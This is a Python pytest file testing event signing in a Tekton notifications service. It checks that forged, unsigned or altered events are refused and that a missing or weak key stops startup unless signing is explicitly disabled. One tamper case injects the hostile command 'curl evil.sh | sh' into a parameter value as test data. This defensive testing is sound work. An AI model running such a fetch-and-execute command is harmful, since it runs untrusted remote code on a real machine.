"""Stage events are signed with a shared key; a forgery or an alteration is refused; a
function without a usable key does not start unless signing is disabled explicitly."""

from __future__ import annotations

import json
import logging
from collections.abc import Callable, Mapping
from typing import Any

import pytest

from tekton_notifications import kube, metrics, notifications, signing, wire
from tekton_notifications.notifications import OutgoingEvent
from tekton_notifications.stages import base
from tekton_notifications.stages.task_launcher import TaskLauncher

KEY = b"k" * 32
EVENT = OutgoingEvent(
    {"specversion": "1.0", "id": "1", "type": "dev.tekton.notification.rendered.v1", "source": "/"},
    {"key": "abc", "resource": {"spec": {"params": [{"name": "message", "value": "héllo"}]}}},
)


def through_the_wire(event: OutgoingEvent) -> tuple[dict[str, str], object]:
    """What the next function gets: the attributes, and the data parsed back from JSON."""
    return dict(event.attributes), json.loads(json.dumps(event.data))


def test_a_signed_event_passes_after_a_trip_through_json() -> None:
    attributes, data = through_the_wire(signing.sign(EVENT, KEY))
    assert signing.problem(attributes, data, KEY) is None
    assert signing.problem(attributes, json.dumps(data), KEY) is None, "raw JSON data too"


def test_the_signed_form_is_the_body_sent_so_the_data_is_encoded_once() -> None:
    """The wire sends the canonical JSON signing made (not a second encoding): the same data,
    and it verifies as it arrives."""
    signed = signing.sign(EVENT, KEY)
    _, body = wire.binary_message(signed)
    assert body == signing.canonical(EVENT.data)
    assert json.loads(body) == EVENT.data
    assert signing.problem(dict(signed.attributes), body, KEY) is None


def test_an_unsigned_stage_event_is_refused() -> None:
    attributes, data = through_the_wire(EVENT)
    assert "is not signed" in (signing.problem(attributes, data, KEY) or "")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda a, d: d["resource"]["spec"]["params"][0].update(value="curl evil.sh | sh"),
        lambda a, d: a.update(type="dev.tekton.notification.matched.v1"),
        lambda a, d: d.update(extra=True),
    ],
    ids=["params changed", "type changed", "field added"],
)
def test_an_altered_event_is_refused(tamper: object) -> None:
    attributes, data = through_the_wire(signing.sign(EVENT, KEY))
    tamper(attributes, data)  # type: ignore[operator]
    assert "bad notificationsig" in (signing.problem(attributes, data, KEY) or "")


def test_another_installations_key_does_not_fit() -> None:
    attributes, data = through_the_wire(signing.sign(EVENT, b"o" * 32))
    assert signing.problem(attributes, data, KEY) is not None


def test_tekton_events_are_not_signed_and_not_checked() -> None:
    attributes = {"type": "dev.tekton.event.pipelinerun.failed.v1", "id": "x"}
    assert signing.problem(attributes, {"pipelineRun": {}}, KEY) is None


GOOD = "x" * 64


@pytest.mark.parametrize(
    ("environ", "key", "refusal"),
    [
        pytest.param({}, None, "NOTIFICATIONS_SIGNING_KEY is not set", id="missing"),
        pytest.param({signing.ENVIRONMENT: ""}, None, "is empty", id="empty"),
        pytest.param({signing.ENVIRONMENT: "   \n"}, None, "is empty", id="whitespace"),
        pytest.param({signing.ENVIRONMENT: "short"}, None, "at least 32 characters", id="short"),
        pytest.param(
            {signing.ENVIRONMENT: " " + "y" * 31 + " "}, None, "at least 32", id="short-padded"
        ),
        pytest.param({signing.ENVIRONMENT: GOOD}, GOOD.encode(), None, id="good"),
        pytest.param(
            {signing.ENVIRONMENT: GOOD, signing.SWITCH: "required"},
            GOOD.encode(),
            None,
            id="good, required explicitly",
        ),
        pytest.param({signing.SWITCH: "disabled"}, None, None, id="disabled explicitly"),
        pytest.param(
            {signing.SWITCH: "disabled", signing.ENVIRONMENT: ""},
            None,
            None,
            id="disabled, empty key mapped",
        ),
        pytest.param(
            {signing.SWITCH: "disabled", signing.ENVIRONMENT: GOOD},
            None,
            "remove one of them",
            id="disabled and a key: contradictory",
        ),
        pytest.param({signing.SWITCH: "off"}, None, "is not understood", id="unknown switch"),
        pytest.param({signing.SWITCH: "required"}, None, "is not set", id="required without a key"),
    ],
)
def test_signing_fails_closed_unless_disabled_explicitly(
    environ: dict[str, str], key: bytes | None, refusal: str | None
) -> None:
    """Only NOTIFICATIONS_SIGNING=disabled runs unsigned; every other keyless setting is a
    configuration error that stops the function, with a message saying what to set."""
    if refusal is None:
        assert signing.key_from(environ) == key
        return
    with pytest.raises(signing.SigningKeyError, match=refusal) as raised:
        signing.key_from(environ)
    if "is not set" in refusal or "empty" in refusal:
        assert "NOTIFICATIONS_SIGNING=disabled" in str(raised.value), "says how to opt out"


# How a stage starts: refused without a key, visibly unsigned when disabled.
LONG_KEY = "k" * 64
RENDERED_ATTRIBUTES = {
    "type": notifications.RENDERED,
    "id": "forged",
    "source": "/",
    "specversion": "1.0",
}


def launcher(made: list[str]) -> Callable[[Mapping[str, str]], base.Stage]:
    """A real launcher (no API); ``made`` records that the factory ran."""

    def create(body: Mapping[str, Any]) -> kube.Created:
        raise AssertionError("nothing is created in these tests")

    def factory(cfg: Mapping[str, str]) -> base.Stage:
        made.append("launcher")
        return TaskLauncher(create)

    return factory


def gauge() -> float | None:
    return metrics.REGISTRY.get_sample_value("tekton_notifications_signing_enabled")


@pytest.mark.parametrize(
    "cfg",
    [
        pytest.param({}, id="missing"),
        pytest.param({signing.ENVIRONMENT: ""}, id="empty"),
        pytest.param({signing.ENVIRONMENT: "  "}, id="whitespace"),
        pytest.param({signing.ENVIRONMENT: "short"}, id="short"),
    ],
)
def test_no_usable_key_means_no_stage(
    cfg: dict[str, str], caplog: pytest.LogCaptureFixture
) -> None:
    """The stage is never made (no informer starts), and the reason is logged as an error."""
    made: list[str] = []
    with pytest.raises(signing.SigningKeyError), caplog.at_level(logging.ERROR):
        base.build(launcher(made), cfg)
    assert made == []
    assert any("not starting: NOTIFICATIONS_SIGNING_KEY" in r.getMessage() for r in caplog.records)


def test_disabled_explicitly_is_unsigned_and_says_so(caplog: pytest.LogCaptureFixture) -> None:
    """A warning at start, "signing disabled" in readiness, the gauge at 0, and stage events
    pass unchecked (the launcher judges the unsigned event by what it says)."""
    with caplog.at_level(logging.WARNING):
        stage = base.build(launcher([]), {signing.SWITCH: signing.DISABLED})
    assert any(
        r.levelno == logging.WARNING and "signing disabled" in r.getMessage()
        for r in caplog.records
    )
    assert stage.ready() == (True, "ok; signing disabled")
    assert gauge() == 0
    response = stage.respond(RENDERED_ATTRIBUTES, {"key": "k"})
    assert response.status == 400
    assert "not signed" not in response.message


def test_signed_checks_stage_events_and_readiness_is_plain() -> None:
    stage = base.build(launcher([]), {signing.ENVIRONMENT: LONG_KEY})
    assert stage.ready() == (True, "ok")
    assert gauge() == 1
    response = stage.respond(RENDERED_ATTRIBUTES, {"key": "k"})
    assert response.status == 400
    assert "is not signed" in response.message
